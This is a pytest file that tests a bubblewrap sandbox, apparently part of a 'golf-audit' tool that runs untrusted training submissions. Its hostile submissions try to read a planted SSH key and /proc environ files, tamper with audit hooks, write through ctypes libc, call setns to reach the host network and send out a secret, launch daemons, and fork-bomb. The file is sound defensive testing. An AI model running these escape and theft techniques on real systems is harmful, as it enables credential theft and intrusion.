"""Hostile submissions against the sandbox, run as the user running the tests (root in CI).

Each attack is a submission whose ``train_gpt.py`` does its damage at import, the way a probe or a
reproduction imports it. Whatever it does, nothing outside the sandbox may change, no planted
secret may come back in anything the sandbox returns (value, error, denials, output tails: what
reports are built from), and no process may outlive the call. Where bubblewrap cannot start here,
the same tests see the refusal instead: nothing runs, and the same invariants hold.

Native code is stood in for by a fresh interpreter started with ``_posixsubprocess.fork_exec``
(no audit hook sees it, none is installed in it): what it can do is what the kernel allows.
"""

from __future__ import annotations

import hashlib
import json
import os
import resource
import shutil
import socket
import sys
import tempfile
import time
import uuid
from dataclasses import replace
from pathlib import Path

import pytest

from harness.sandbox import ROOT, Limits, bwrap_path, bwrap_problem, run_sandboxed

SANDBOX_STARTS = bwrap_problem(bwrap_path()) is None
SMALL = Limits(wall_seconds=60, processes=48, write_bytes=8 << 20, copy_bytes=4 << 20, file_size_bytes=6 << 20,
               resident_bytes=2 << 30)
# Files of golf-audit that a hostile child would like to change (the parent imports them later).
OWN_FILES = [ROOT / "reports" / "render" / "text.py", ROOT / "harness" / "sandbox.py", ROOT / "cli.py"]

# Starts a program the way subprocess does, below its audit event: a stand-in for native code.
SPAWN = '''
import _posixsubprocess, os, sys
def spawn(argv, setsid=False):
    r, w = os.pipe()
    try:
        return _posixsubprocess.fork_exec(
            [os.fsencode(a) for a in argv], [os.fsencode(argv[0])], True, (), None, None,
            -1, -1, -1, -1, -1, -1, r, w, True, setsid, -1, None, None, None, -1, None, False)
    finally:
        os.close(r); os.close(w)
'''


@pytest.fixture
def host(tmp_path, monkeypatch):
    """A planted key under a temporary HOME, a secret in golf-audit's own environment, a host
    folder outside /tmp, and the hashes of golf-audit's own files, checked after each attack."""
    home = Path(tempfile.mkdtemp(prefix="golf-audit-home-", dir="/var/tmp"))
    outside = Path(tempfile.mkdtemp(prefix="golf-audit-outside-", dir="/var/tmp"))
    key = f"-----BEGIN FAKE KEY {uuid.uuid4().hex}-----"
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_test").write_text(key)
    secret = f"planted-secret-{uuid.uuid4().hex}"
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GOLF_AUDIT_TEST_SECRET", secret)
    before = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in OWN_FILES}
    root_entries = set(os.listdir(ROOT))
    token = f"golfattack{uuid.uuid4().hex[:12]}"
    yield {"home": home, "key": key, "secret": secret, "outside": outside, "sub": tmp_path, "token": token}
    try:
        assert {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in OWN_FILES} == before
        assert set(os.listdir(ROOT)) == root_entries, "a file appeared in golf-audit's checkout"
        assert os.listdir(outside) == [], "a file appeared in a host folder"
        assert os.listdir(home) == [".ssh"] and os.listdir(home / ".ssh") == ["id_test"]
        assert survivors(token) == [], "a process of the submission outlived the sandbox"
    finally:
        for pid in survivors(token):
            os.kill(pid, 9)
        shutil.rmtree(home, ignore_errors=True)
        shutil.rmtree(outside, ignore_errors=True)


def survivors(token: str) -> list[int]:
    """Host processes whose command line carries ``token``."""
    out = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if token.encode() in f.read():
                    out.append(int(pid))
        except OSError:
            continue
    return out


def attack(h: dict, code: str, limits: Limits = SMALL):
    """Run ``code`` as a submission's train_gpt.py at import; assert nothing secret came back."""
    (h["sub"] / "train_gpt.py").write_text(code)
    r = run_sandboxed("tests.sandbox_drivers:import_entry", {"entry": "$SUBMISSION/train_gpt.py"},
                      copy_dir=h["sub"], limits=limits, preload=())
    returned = json.dumps([repr(r.value), r.error, r.blocked, r.stdout_tail, r.stderr_tail])
    assert h["key"] not in returned and h["secret"] not in returned
    if not SANDBOX_STARTS:  # the refusal path: nothing ran
        assert r.cannot_run and not r.ok and "no sandbox could start" in r.error
    return r


def ran(r) -> bool:
    return SANDBOX_STARTS and r.ok


def test_dir_fd_reads_of_the_home_key_and_the_parents_environment(host):
    r = attack(host, f'''
import os, pwd, glob
got = []
for home in (pwd.getpwuid(os.getuid()).pw_dir, {str(host["home"])!r}, "/root"):
    try:
        fd = os.open(home, os.O_RDONLY)
        got.append(os.read(os.open(".ssh/id_test", os.O_RDONLY, dir_fd=fd), 4096).decode())
    except OSError as e:
        got.append(type(e).__name__)
d = os.open("/proc", os.O_RDONLY)
for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    try:
        got.append(os.read(os.open(f"{{pid}}/environ", os.O_RDONLY, dir_fd=d), 1 << 20).decode(errors="replace"))
    except OSError as e:
        got.append(type(e).__name__)
got.append(repr(dict(os.environ)))
print(got)
RESULT = got
''')
    assert not SANDBOX_STARTS or r.ok, r.error  # it ran, and found nothing to steal


def test_writes_into_golf_audits_checkout(host):
    text_py = str(ROOT / "reports" / "render" / "text.py")
    r = attack(host, f'''
import os, sqlite3
done = []
def tryit(name, fn):
    try:
        fn(); done.append(name)
    except Exception:
        pass
root = os.open({str(ROOT)!r}, os.O_RDONLY)
tryit("dir_fd", lambda: os.write(os.open("reports/render/text.py", os.O_WRONLY | os.O_APPEND, dir_fd=root), b"\\nPWNED = 1\\n"))
tryit("append", lambda: open({text_py!r}, "a").write("\\nPWNED = 1\\n"))
tryit("link", lambda: os.link({text_py!r}, {str(host["outside"] / "t.py")!r}))
tryit("sqlite", lambda: sqlite3.connect({str(ROOT / "pwned.db")!r}).execute("create table t(x)"))
tryit("sqlite_outside", lambda: sqlite3.connect({str(host["outside"] / "pwned.db")!r}).execute("create table t(x)"))
tryit("new_file", lambda: open({str(ROOT / "harness" / "pwned.py")!r}, "w").write("x"))
RESULT = done
''')
    # golf-audit's own files are read-only mounts: every write to them fails. A new file beside them
    # can be made only when the checkout lies under /tmp, which in the sandbox is its private tmpfs
    # (the host's checkout is unchanged either way: the fixture checks it).
    private = {"sqlite"} if ROOT.resolve().is_relative_to("/tmp") else set()
    assert not ran(r) or set(r.value["result"]) <= private, r.value


def test_hook_guard_tampered_with_through_gc_then_plain_writes(host):
    r = attack(host, f'''
import gc, os
for o in gc.get_objects():
    if type(o).__name__ == "Guards":
        o.workdir = "/"
        o.is_secret = lambda p: False
        type(o).hook.__code__ = (lambda self, event, args: None).__code__
done = []
for path in ({str(ROOT / "reports" / "render" / "text.py")!r}, {str(host["outside"] / "x")!r}, {str(host["home"] / ".ssh" / "id_test")!r}):
    try:
        with open(path, "a") as f:
            f.write("PWNED")
        done.append(path)
    except OSError:
        pass
try:
    done.append(open({str(host["home"] / ".ssh" / "id_test")!r}).read())
except OSError:
    pass
RESULT = done
''')
    assert not ran(r) or r.value == {"result": []}


def test_native_code_open_write_and_exec(host):
    """ctypes on libc: the audit hooks see none of it; the kernel's sandbox must."""
    victim = ROOT / "reports" / "render" / "text.py"
    r = attack(host, SPAWN + f'''
code = """
import ctypes, os
libc = ctypes.CDLL(None)
for p in ({str(victim)!r}, {str(host["outside"] / "native")!r}):
    fd = libc.open(p.encode(), os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)
    if fd >= 0:
        libc.write(fd, b"PWNED", 5)
argv = (ctypes.c_char_p * 4)(b"/bin/sh", b"-c", b"echo PWNED >> {str(host["outside"] / "exec")} ; echo PWNED >> {str(victim)}", None)
libc.execvpe(b"/bin/sh", argv, None)
"""
import time
pid = spawn([sys.executable, "-c", code, {host["token"]!r}])
os.waitpid(pid, 0)
RESULT = "spawned"
''')
    assert not SANDBOX_STARTS or r.ok, r.error


def test_no_way_back_to_the_hosts_network(host):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    try:
        r = attack(host, SPAWN + f'''
code = """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
for p in ("/proc/%d/ns/net" % os.getppid(), "/proc/1/ns/net"):
    try:
        libc.setns(os.open(p, os.O_RDONLY), 0x40000000)
    except OSError:
        pass
for host in ("127.0.0.1", "10.0.2.2"):
    try:
        socket.create_connection((host, {port}), timeout=1).sendall(b"{host["secret"]}")
    except OSError:
        pass
"""
pid = spawn([sys.executable, "-c", code, {host["token"]!r}])
os.waitpid(pid, 0)
RESULT = "tried"
''')
        assert not SANDBOX_STARTS or r.ok, r.error
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()


def test_a_daemon_in_its_own_session_does_not_outlive_the_audit(host):
    marker = host["outside"] / "late"
    r = attack(host, SPAWN + f'''
spawn(["/bin/sh", "-c", "sleep 2; echo late > {marker}", {host["token"]!r}], setsid=True)
RESULT = "daemon started"
''')
    assert not ran(r) or r.value == {"result": "daemon started"}
    time.sleep(3)  # past the daemon's sleep: its marker would be there by now
    assert not marker.exists()


def test_kill_on_timeout_takes_the_whole_tree(host):
    r = attack(host, SPAWN + f'''
for _ in range(4):
    spawn(["/bin/sh", "-c", "while :; do sleep 1; done", {host["token"]!r}], setsid=True)
while True:
    pass
''', limits=replace(SMALL, wall_seconds=3))
    assert not r.ok and (r.timed_out or r.cannot_run)


def test_fork_bomb_is_bounded(host):
    r = attack(host, SPAWN + f'''
code = "import os\\nwhile True:\\n    try:\\n        os.fork()\\n    except OSError:\\n        pass\\n"
spawn([sys.executable, "-c", code, {host["token"]!r}])
import time
time.sleep(60)
''', limits=replace(SMALL, wall_seconds=4, processes=24))
    assert not r.ok


def test_writes_are_bounded_in_total_not_per_file(host):
    r = attack(host, '''
import errno
written, err = 0, None
try:
    for i in range(8):  # each file under the per-file limit, together over the sandbox's budget
        with open(f"/tmp/fill{i}", "wb") as f:
            for _ in range(4):
                f.write(b"\\0" * (1 << 20))
                f.flush()
                written += 1 << 20
except OSError as e:
    err = e.errno
RESULT = [written, err]
''')
    if ran(r):
        written, err = r.value["result"]
        assert err == 28 and written <= SMALL.write_bytes  # ENOSPC before the budget is passed


def test_sparse_files_are_not_expanded_by_the_copy(host):
    with open(host["sub"] / "hole.bin", "wb") as f:
        f.truncate(64 << 20)  # 64 MiB apparent, no blocks on disk
    r = attack(host, "RESULT = 1\n")
    assert not r.ok and r.cannot_run
    if SANDBOX_STARTS:
        assert "apparent sizes" in r.error


def test_a_100_mb_result_message_does_not_grow_golf_audit(host):
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    r = attack(host, '''
import os, sys
fd = int(sys.argv[1])
os.write(fd, b"GASB1 100000000\\n")
block = b"x" * (1 << 20)
for _ in range(100):
    os.write(fd, block)
os._exit(0)
''')
    grew = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) << 10
    assert not r.ok and grew < 32 << 20
    if SANDBOX_STARTS:
        assert r.error == f"result larger than the {SMALL.result_bytes}-byte limit; child stopped"


def test_refusal_where_bubblewrap_cannot_start(host, monkeypatch):
    monkeypatch.setenv("GOLF_AUDIT_BWRAP", shutil.which("false") or "/bin/false")
    marker = host["outside"] / "ran"
    (host["sub"] / "train_gpt.py").write_text(f"open({str(marker)!r}, 'w').write('x')\n")
    r = run_sandboxed("tests.sandbox_drivers:import_entry", {"entry": "$SUBMISSION/train_gpt.py"},
                      copy_dir=host["sub"], limits=SMALL, preload=())
    assert not r.ok and r.cannot_run and r.error.startswith("no sandbox could start")
    assert "--unsafe-no-sandbox" in r.error and not marker.exists()


def test_policy_cpu_and_cuda():
    """The bwrap arguments and rlimits chosen for each device, without starting anything."""
    from harness.sandbox import INSIDE_TMP, bwrap_args, child_rlimits

    def argv(device):
        return bwrap_args(Limits(device=device, write_bytes=123456789), ro=["/usr"], links=[], readable=["/data/val"],
                          src_dir="/subs/a", env={"HOME": INSIDE_TMP}, command=["python"],
                          gpu_nodes=["/dev/nvidia0", "/dev/nvidiactl", "/dev/nvidia-uvm"])

    def pairs(args, flag):
        return [args[i + 1:i + 3] for i, a in enumerate(args) if a == flag]

    cpu, cuda = argv("cpu"), argv("cuda")
    for a in (cpu, cuda):
        for flag in ("--unshare-all", "--unshare-user", "--disable-userns", "--die-with-parent", "--new-session", "--clearenv"):
            assert flag in a
        assert a[a.index("--cap-drop") + 1] == "ALL"
        tmpfs = [a[i + 1] for i, x in enumerate(a) if x == "--tmpfs"]
        assert tmpfs == ["/dev/shm", INSIDE_TMP]
        at = [i for i, x in enumerate(a) if x == "--tmpfs"][1]
        assert a[at - 2:at + 2] == ["--size", "123456789", "--tmpfs", INSIDE_TMP]
        assert ["/data/val", "/data/val"] in pairs(a, "--ro-bind") and ["/subs/a", "/golf-audit-src"] in pairs(a, "--ro-bind")
        head = a[:a.index("--")]
        assert head[-4:] == ["--remount-ro", "/", "--chdir", INSIDE_TMP]  # read-only once everything is in place
        assert max(i for i, x in enumerate(head) if x in ("--ro-bind", "--dev-bind", "--tmpfs")) < len(head) - 4
        assert "--bind" not in a  # nothing of the host is writable
    assert pairs(cpu, "--dev-bind") == [] and ["/sys", "/sys"] not in pairs(cpu, "--ro-bind")
    assert pairs(cuda, "--dev-bind") == [[n, n] for n in ("/dev/nvidia0", "/dev/nvidiactl", "/dev/nvidia-uvm")]
    assert ["/sys", "/sys"] in pairs(cuda, "--ro-bind")
    limits = Limits(memory_bytes=5 << 30, cpu_seconds=77, file_size_bytes=1 << 20)
    cpu_rl, cuda_rl = child_rlimits(limits, None), child_rlimits(replace(limits, device="cuda"), 40)
    assert cpu_rl[resource.RLIMIT_AS] == (5 << 30, 5 << 30) and resource.RLIMIT_AS not in cuda_rl
    for rl in (cpu_rl, cuda_rl):
        assert rl[resource.RLIMIT_CPU] == (77, 82) and rl[resource.RLIMIT_FSIZE] == (1 << 20, 1 << 20)
        assert rl[resource.RLIMIT_CORE] == (0, 0)
    assert cuda_rl[resource.RLIMIT_NPROC] == (40, 40) and resource.RLIMIT_NPROC not in cpu_rl


def test_cuda_that_cannot_start_is_cannot_run(tmp_path):
    """On a machine without a GPU (or without a CUDA build of torch) the CUDA mode does not run
    the submission and says so: never a skip that reads as a pass."""
    import torch

    if torch.cuda.is_available():
        pytest.skip("a GPU is here: the CUDA start is exercised by benchmarks/gpu_check.sh")
    (tmp_path / "train_gpt.py").write_text("RESULT = 1\n")
    r = run_sandboxed("tests.sandbox_drivers:import_entry", {"entry": "$SUBMISSION/train_gpt.py"}, copy_dir=tmp_path,
                      limits=Limits(device="cuda", wall_seconds=120))
    assert not r.ok and r.cannot_run
    assert r.error.startswith("CUDA did not start" if SANDBOX_STARTS else "no sandbox could start"), r.error


def test_cli_refuses_to_run_submission_code_without_a_sandbox():
    """Where bubblewrap cannot start, ``probe`` runs nothing: exit 2, one line; --no-exec is unaffected."""
    from tests.cli_run import run_cli

    env = {"GOLF_AUDIT_BWRAP": shutil.which("false") or "/bin/false"}
    proc = run_cli("probe", "submissions/legal_sliding", "--profile", "ci", "--format", "json", env=env, timeout=300)
    assert proc.returncode == 2
    assert proc.stderr.startswith("golf-audit: error: probes: no sandbox could start") and "--unsafe-no-sandbox" in proc.stderr
    assert json.loads(proc.stdout)["verdict"] == "error"
    proc = run_cli("audit", "submissions/legal_sliding", "--no-exec", "--format", "json", env=env, timeout=300)
    assert proc.returncode == 0, proc.stderr


def test_killing_golf_audit_ends_the_sandbox(host):
    """golf-audit killed mid-run (SIGKILL, no cleanup of its own): bwrap dies with it, and with
    bwrap the sandbox's pid namespace and every process in it, daemons included."""
    import signal
    import subprocess

    (host["sub"] / "train_gpt.py").write_text(SPAWN + f'''
spawn(["/bin/sh", "-c", "while :; do sleep 1; done", {host["token"]!r}], setsid=True)
import time
time.sleep(120)
''')
    driver = (f"from harness.sandbox import run_sandboxed, Limits\n"
              f"run_sandboxed('tests.sandbox_drivers:import_entry', {{'entry': '$SUBMISSION/train_gpt.py'}}, "
              f"copy_dir={str(host['sub'])!r}, limits=Limits(wall_seconds=120), preload=())\n")
    auditor = subprocess.Popen([sys.executable, "-c", driver], cwd=ROOT)
    try:
        deadline = time.monotonic() + 60
        while SANDBOX_STARTS and not survivors(host["token"]) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not SANDBOX_STARTS or survivors(host["token"]), "the daemon never started"
    finally:
        auditor.send_signal(signal.SIGKILL)
        auditor.wait()
    deadline = time.monotonic() + 10
    while survivors(host["token"]) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert survivors(host["token"]) == []
